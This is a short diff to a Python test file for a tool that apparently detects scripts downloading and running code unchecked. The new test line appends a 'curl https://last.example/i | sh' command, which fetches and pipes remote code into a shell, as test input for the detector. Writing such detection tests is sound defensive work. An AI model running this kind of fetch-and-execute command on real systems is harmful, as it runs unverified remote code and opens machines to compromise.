@@ -99,7 +99,8 @@ def test_downloads_that_run_unseen(script: str, how: str) -> None:
     ],
 )  # fmt: skip
 def test_downloads_that_do_not_run_or_are_checked(script: str) -> None:
-    assert all(fetch.executed == "" for fetch in fetches(script))
+    found = fetches(f"{script}\ncurl https://last.example/i | sh")
+    assert [fetch.executed for fetch in found if fetch.executed] == ["pipe"]
 
 
 def test_layers_of_a_stage_share_their_files() -> None:
